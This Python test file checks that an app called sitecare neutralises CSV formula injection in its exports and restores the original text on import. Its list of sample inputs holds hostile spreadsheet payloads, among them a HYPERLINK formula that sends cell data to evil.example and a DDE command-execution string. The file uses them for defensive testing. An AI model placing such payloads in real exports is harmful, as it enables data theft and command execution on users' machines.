"""Every CSV sitecare writes is safe to open in a spreadsheet, and still reads back exactly
(issue 10, item 4; OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from sitecare.config import Settings
from sitecare.services.csv_cells import TRIGGERS, neutralise, restore
from sitecare.web.app import create_app

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tstarts with a tab",
    "'=already quoted",
    "'plain apostrophe",
    "\uff1dfull-width equals",
    'comma, "quotes" and\nline breaks',
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_exported_cell_starts_a_formula_and_a_round_trip_gives_the_text_back(
    client: TestClient, db_url: str, tmp_path: Path
) -> None:
    for i, note in enumerate(NASTY):
        medicine = note.replace("\n", " ").replace("\t", " ").strip() or "x"
        r = client.post(
            "/api/v1/injections",
            json={"region": "forearm_left", "note": note, "medicine": medicine[:200]},
        )
        assert r.status_code == 201, (i, r.text)
    exported = client.get("/api/v1/export", params={"format": "csv"}).text
    for row in _cells(exported)[1:]:
        for cell in row:
            assert not cell.startswith(TRIGGERS[:-1]), repr(cell)

    fresh = tmp_path / "fresh.sqlite3"
    other = create_app(Settings(database_url=f"sqlite:///{fresh}", data_dir=tmp_path))
    with TestClient(other, base_url="http://127.0.0.1") as c2:
        from sitecare.services.app import Sitecare

        with Sitecare(Settings(database_url=f"sqlite:///{fresh}", data_dir=tmp_path)) as sc:
            from datetime import datetime

            sc.transfer.import_text(exported, now=datetime.now().astimezone())
        before = client.get("/api/v1/injections").json()
        after = c2.get("/api/v1/injections").json()
        assert (
            [i["note"] for i in after] == [i["note"] for i in before] == [n.strip() for n in NASTY]
        )
        assert [i["medicine"] for i in after] == [i["medicine"] for i in before]
        assert c2.get("/api/v1/export", params={"format": "csv"}).text == exported


@given(st.text(max_size=30))
def test_neutralise_then_restore_is_the_identity(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    assert not cell.startswith(TRIGGERS[:-1])
